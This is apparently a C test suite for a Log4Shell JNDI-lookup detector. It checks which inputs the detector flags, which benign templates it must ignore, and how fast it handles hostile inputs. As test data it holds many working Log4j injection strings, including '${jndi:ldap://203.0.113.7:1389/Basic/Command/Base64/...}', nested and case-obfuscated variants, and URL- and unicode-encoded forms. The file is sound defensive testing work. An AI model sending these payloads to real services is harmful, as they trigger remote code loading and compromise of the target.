/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * test_jndi.c - the Log4Shell lookup detector (dpi/dpi_jndi.c).
 *
 * Payloads seen in the wild (plain, nested, defaults, case and date tricks,
 * escapes, encodings), text and templates that must stay quiet, the
 * reported excerpt and scheme, the API's edges, and hostile values that
 * must finish fast. Every value is copied to end at a guard page, so
 * reading one byte past it faults.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "bh_test.h"
#include "dpi_jndi.h"

static int check_value(const void *v, size_t len, struct dpi_jndi_result *r)
{
	uint8_t *copy = guard_dup(v, len);
	int rc = dpi_jndi_check(copy, len, r);

	/* the excerpt lies inside the value; no hit leaves the result empty */
	if (rc >= 0 && (r->off > len || r->len > len - r->off ||
			memchr(r->scheme, 0, sizeof(r->scheme)) == NULL ||
			(rc == 0 && (r->len || r->off || r->scheme[0] || r->obfuscated ||
				     r->decoded || r->unresolved)) ||
			(rc == 1 && !r->len)))
		rc = -100;
	guard_free(copy, len);
	return rc;
}

/* @scheme: expected scheme, NULL for "don't care"; @excerpt: expected
 * reported bytes, NULL for "don't care"; @obf: 0/1, or -1 for "don't care". */
static void expect(const char *file, int line, const char *v, int want, const char *scheme,
		   const char *excerpt, int obf)
{
	struct dpi_jndi_result r;
	int rc = check_value(v, strlen(v), &r);
	bool bad = rc != want;

	if (!bad && want == 1) {
		bad |= scheme && strcmp(r.scheme, scheme) != 0;
		bad |= excerpt && (r.len != strlen(excerpt) || memcmp(v + r.off, excerpt, r.len) != 0);
		bad |= obf >= 0 && r.obfuscated != (obf == 1);
		bad |= r.unresolved;
	}
	bh_test_checks++;
	if (bad) {
		bh_test_failures++;
		fprintf(stderr, "%s:%d: [%s]\n  got rc %d scheme \"%s\" obf %d unres %d excerpt [%.*s]\n",
			file, line, v, rc, rc >= 0 ? r.scheme : "", rc >= 0 && r.obfuscated,
			rc >= 0 && r.unresolved, rc >= 0 ? (int)r.len : 0, rc >= 0 ? v + r.off : "");
	}
}

#define POS(v, scheme) expect(__FILE__, __LINE__, v, 1, scheme, NULL, -1)
#define POSX(v, scheme, excerpt, obf) expect(__FILE__, __LINE__, v, 1, scheme, excerpt, obf)
#define NEG(v) expect(__FILE__, __LINE__, v, 0, NULL, NULL, -1)

static void test_plain(void)
{
	POSX("${jndi:ldap://x.example/a}", "ldap", "${jndi:ldap://x.example/a}", 0);
	POSX("Mozilla/5.0 ${jndi:ldap://203.0.113.7:1389/Basic/Command/Base64/dG91Y2g=} (X11)",
	     "ldap", "${jndi:ldap://203.0.113.7:1389/Basic/Command/Base64/dG91Y2g=}", 0);
	POSX("${jndi:rmi://x/a}", "rmi", NULL, 0);
	POSX("${jndi:dns://x.example}", "dns", NULL, 0);
	POSX("${jndi:ldaps://x/a}", "ldaps", NULL, 0);
	POSX("${jndi:iiop://x/a}", "iiop", NULL, 0);
	POSX("${jndi:corba://x/a}", "corba", NULL, 0);
	POSX("${jndi:nds://x/a}", "nds", NULL, 0);
	POSX("${jndi:http://x/a}", "http", NULL, 0);
	POSX("${jndi:nis:x}", "nis", NULL, 0); /* scheme before ':' without "//" */
	POS("X-Api-Version: ${jndi:ldap://${env:USER}.${sys:java.version}.x.example/a}", "ldap");
	POS("${jndi:ldap://${hostName}.x.example/a}", "ldap");
	/* a key that tells no scheme is still a jndi lookup */
	POSX("${jndi:x}", "", NULL, 0);
	POSX("${jndi:}", "", NULL, 0);
	POSX("${jndi:${foo:bar}://x}", "", NULL, 0);
	/* JSON and form bodies carry it too */
	POS("{\"user\":\"${jndi:ldap://x/a}\"}", "ldap");
	POS("user=${jndi:ldap://x/a}&pass=1", "ldap");
}

static void test_obfuscated(void)
{
	POSX("${JnDi:rmi://x/a}", "rmi", "${JnDi:rmi://x/a}", 1);
	POSX("${JNDI:LDAP://X/A}", "ldap", NULL, 1);
	POSX("${${lower:j}ndi:ldap://x/a}", "ldap", "${${lower:j}ndi:ldap://x/a}", 1);
	POSX("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}", "rmi", NULL, 1);
	POSX("${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x/a}",
	     "ldap", NULL, 1);
	POSX("${${lower:jndi}:${lower:rmi}://x/a}", "rmi", NULL, 1);
	POSX("${${upper:j}${upper:n}${lower:d}i:dns://x}", "dns", NULL, 1);
	POSX("${jndi:${lower:l}${lower:d}a${lower:p}://x}", "ldap", NULL, 1);
	POSX("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}", "ldap", NULL, 1);
	POS("${${env:NOPE:-j}ndi:ldap://x/a}", "ldap");
	POS("${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x/a}", "ldap");
	POS("${${:-j}ndi:ldap://x/a}", "ldap");          /* empty name */
	POS("${${ctx:loginId:-j}ndi:ldap://x/a}", "ldap");
	POS("${${main:nope:-j}ndi:ldap://x/a}", "ldap");
	POS("${${base64:amRuaQ==:-j}ndi:ldap://x/a}", "ldap"); /* no base64 lookup: the default */
	POS("${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap://x/a}", "ldap");
	POS("${${lower:${lower:${lower:j}}}ndi:ldap://x}", "ldap");
	POS("${jnd${upper:\xc4\xb1}:ldap://x}", "ldap"); /* dotless i upper-cases to 'I' */
	POS("${${date:'j'}${date:'nd'}i:ldap://x}", "ldap");
	POS("${jndi${::-:}ldap://x}", "ldap");
	/* Log4j substitutes a found value again */
	POS("${::-$${jndi:ldap://x}}", "ldap");
	POS("${lower:$${jndi:iiop://x}}", "iiop");
	POS("${::-$${::-$${jndi:ldap://x}}}", "ldap");
	/* the escaped delimiter ":\-": name "a:b", default "jndi" */
	POS("${${a:\\-b:-jndi}:ldap://x}", "ldap");
	/* whitespace and the rest of the line around it */
	POS("GET /?q=${${lower:J}ndi:ldap://x/a} HTTP/1.1", "ldap");
	POSX("a ${jndi:ldap://x/a} b ${jndi:rmi://y/b}", "ldap", "${jndi:ldap://x/a}", 0);
	/* inside an escaped expression the nested lookups still run */
	POSX("$${${jndi:corba://x}}", "corba", "${jndi:corba://x}", 0);
	/* a value that leaves the lookup open: the log line may close it */
	POSX("${jndi:ldap://x", "ldap", "${jndi:ldap://x", 0);
	POSX("${ ${jndi:ldap://x}", "ldap", "${ ${jndi:ldap://x}", 0);
}

static void test_encoded(void)
{
	struct dpi_jndi_result r;
	const char *v;

	POSX("%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", "ldap", "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D", 0);
	POSX("q=%24%7Bjndi:ldap://x/a%7d&z=1", "ldap", "%24%7Bjndi:ldap://x/a%7d", 0);
	POS("%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx%7D", "ldap");
	POSX("\\u0024\\u007bjndi:ldap://x}", "ldap", "\\u0024\\u007bjndi:ldap://x}", 0);
	POS("\\x24\\x7bjndi:ldap://x\\x7d", "ldap");
	POS("%u0024%u007bjndi:rmi://x%u007d", "rmi");
	POS("{\"a\":\"\\u0024{jndi:dns://x}\"}", "dns");

	v = "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D";
	CHECK_EQ(check_value(v, strlen(v), &r), 1);
	CHECK(r.decoded);
	CHECK_EQ(r.off, 0);
	CHECK_EQ(r.len, strlen(v));
	v = "${jndi:ldap://x}";
	CHECK_EQ(check_value(v, strlen(v), &r), 1);
	CHECK(!r.decoded);
	/* one round only */
	NEG("%2524%257Bjndi:ldap://x%257D");
	/* broken escapes are bytes */
	NEG("%2%7Bjndi:ldap://x}");
	NEG("\\u002 jndi");
}

static void test_negative(void)
{
	NEG("");
	NEG("Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0");
	NEG("${USER}");
	NEG("${env:HOME}");
	NEG("${PATH}");
	NEG("export PATH=${PATH}:/usr/local/bin; echo ${HOME:-/root} ${#x} ${x%%.*}");
	NEG("${item.price}");
	NEG("Total: ${order.total} for ${user.name}");
	NEG("{\"name\":\"x\",\"a\":[1,2,{\"b\":null}],\"t\":\"${x}\"}");
	NEG("$${jndi:ldap://x}");
	NEG("$$${jndi:ldap://x}"); /* "$" + escaped: still an escape */
	NEG("jndi is a Java API");
	NEG("jndi:ldap://x/a");
	NEG("${lower:jnd}i:ldap://x");
	NEG("${jndi}");
	NEG("${ jndi:ldap://x}");  /* prefix " jndi" */
	NEG("${jndi :ldap://x}");
	NEG("${jndix:ldap://x}");
	NEG("${j${x}ndi:ldap://x}"); /* ${x} finds nothing and stays */
	NEG("${::-$}{jndi:ldap://x}"); /* the '$' is a value; "{jndi" is text */
	NEG("${::-$}${jndi:ldap://x}"); /* ... and it escapes the next "${" */
	NEG("${date:j}ndi:x");          /* invalid pattern: the default format */
	NEG("${${sys:nope:-n}${::-j}ndi:ldap://x}"); /* "njndi" */
	NEG("${${upper:\xc4\xb1}}");
	NEG("${${date:'j'}${date:'n''d'}i:ldap://x}"); /* "jn'di" */
	NEG("${jnd${upper:\xc4\xb0}:ldap://x}"); /* dotted capital I: no */
	NEG("${lower:JNDI}:ldap://x");
	NEG("{}{}{}$}}}${}");
	NEG("%7B%7D%24");
	NEG("\\u0024\\u007b\\u007d");
	NEG("price: $5 {note}");
}

static void test_api(void)
{
	struct dpi_jndi_result r;
	static const char big_head[] = "${jndi:ldap://x/a}";
	uint8_t *big;
	size_t n = DPI_JNDI_MAX_INPUT + 100;

	memset(&r, 0x5a, sizeof(r));
	CHECK_EQ(dpi_jndi_check(NULL, 1, &r), -EINVAL);
	CHECK_EQ(((uint8_t *)&r)[0], 0x5a); /* untouched */
	CHECK_EQ(dpi_jndi_check((const uint8_t *)"x", 1, NULL), -EINVAL);
	CHECK_EQ(dpi_jndi_check(NULL, 0, &r), 0);
	CHECK(!r.truncated && !r.len && !r.scheme[0]);

	/* only the first DPI_JNDI_MAX_INPUT bytes count; truncated says so */
	big = malloc(n);
	if (!big)
		abort();
	memset(big, 'a', n);
	memcpy(big, big_head, strlen(big_head));
	CHECK_EQ(check_value(big, n, &r), 1);
	CHECK(r.truncated);
	memset(big, 'a', n);
	memcpy(big + n - strlen(big_head), big_head, strlen(big_head));
	CHECK_EQ(check_value(big, n, &r), 0);
	CHECK(r.truncated);
	CHECK_EQ(check_value(big, DPI_JNDI_MAX_INPUT, &r), 0);
	CHECK(!r.truncated);
	free(big);

	/* same answer twice: no hidden state */
	for (int i = 0; i < 2; i++) {
		CHECK_EQ(check_value("${${::-j}ndi:rmi://x}", 21, &r), 1);
		CHECK(!strcmp(r.scheme, "rmi"));
	}
}

static double now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec * 1e3 + (double)ts.tv_nsec / 1e6;
}

/* Hostile shapes: each takes well under a millisecond; the check allows
 * 50 ms per value for sanitizer builds on a loaded machine. */
static void test_hostile(void)
{
	size_t n = DPI_JNDI_MAX_INPUT;
	uint8_t *b = malloc(n);
	struct dpi_jndi_result r;
	double t0, worst = 0;
	int rc;

	if (!b)
		abort();
	/* the fastest of three runs: a busy machine preempts, it doesn't speed up */
#define TIMED(len)                                                     \
	do {                                                           \
		double best = 1e9;                                     \
		for (int rep = 0; rep < 3; rep++) {                    \
			t0 = now_ms();                                 \
			rc = check_value(b, (len), &r);                \
			if (now_ms() - t0 < best)                      \
				best = now_ms() - t0;                  \
		}                                                      \
		if (best > worst)                                      \
			worst = best;                                  \
	} while (0)

	/* 8 KiB of "${", never closed: too deep to rule out, reported */
	for (size_t i = 0; i < n; i += 2)
		memcpy(b + i, "${", 2);
	TIMED(n);
	CHECK_EQ(rc, 1);
	CHECK(r.unresolved && !r.scheme[0] && r.off == 0 && r.len == n);

	/* 2730 nested and closed */
	for (size_t i = 0; i < 2730; i++) {
		memcpy(b + 2 * i, "${", 2);
		b[5460 + i] = '}';
	}
	TIMED(8190);
	CHECK_EQ(rc, 1);
	CHECK(r.unresolved);

	/* nesting up to the cap resolves normally */
	{
		char v[256];
		size_t w = 0;

		for (unsigned i = 0; i < DPI_JNDI_MAX_DEPTH - 1; i++)
			w += (size_t)snprintf(v + w, sizeof(v) - w, "${::-");
		w += (size_t)snprintf(v + w, sizeof(v) - w, "j");
		for (unsigned i = 0; i < DPI_JNDI_MAX_DEPTH - 1; i++)
			v[w++] = '}';
		v[w] = 0;
		memmove(v + 2, v, w + 1);
		memcpy(v, "${", 2);
		w += 2;
		w += (size_t)snprintf(v + w, sizeof(v) - w, "ndi:ldap://x}");
		POS(v, "ldap");
	}

	/* "}" and "${" alternating, escapes, delimiters: cheap and benign */
	for (size_t i = 0; i + 3 <= n; i += 3)
		memcpy(b + i, "${}", 3);
	TIMED(n - n % 3);
	CHECK_EQ(rc, 0);
	for (size_t i = 0; i + 3 <= n; i += 3)
		memcpy(b + i, "$${", 3);
	TIMED(n - n % 3);
	CHECK_EQ(rc, 0); /* every "${" is escaped */
	for (size_t i = 0; i + 11 <= n; i += 11)
		memcpy(b + i, "${a:${b:c}}", 11);
	TIMED(n - n % 11);
	CHECK_EQ(rc, 0);
	for (size_t i = 0; i + 21 <= n; i += 21)
		memcpy(b + i, "${::-$${::-$${::-x}}}", 21);
	TIMED(n - n % 21);
	CHECK_EQ(rc, 0);
	memset(b, '%', n);
	TIMED(n);
	CHECK_EQ(rc, 0);
	for (size_t i = 0; i + 6 <= n; i += 6)
		memcpy(b + i, "%24%7B", 6);
	TIMED(n - n % 6);
	CHECK_EQ(rc, 1);
	CHECK(r.decoded && r.unresolved);

	/* random mixes of the special bytes: whatever the verdict, fast and sane */
	{
		static const char alpha[] = "${}:-\\'jndiJNDlowerupdat%7Bu0024";
		uint64_t seed = 0x9e3779b97f4a7c15ull;

		for (int k = 0; k < 300; k++) {
			size_t len = bh_xorshift(&seed) % n;

			for (size_t i = 0; i < len; i++)
				b[i] = (uint8_t)alpha[bh_xorshift(&seed) % (sizeof(alpha) - 1)];
			TIMED(len);
			CHECK(rc == 0 || rc == 1);
		}
	}
	printf("  hostile: slowest value %.3f ms\n", worst);
	CHECK(worst < 50.0);
	free(b);
#undef TIMED
}

int main(void)
{
	RUN(test_plain);
	RUN(test_obfuscated);
	RUN(test_encoded);
	RUN(test_negative);
	RUN(test_api);
	RUN(test_hostile);
	return bh_test_summary();
}
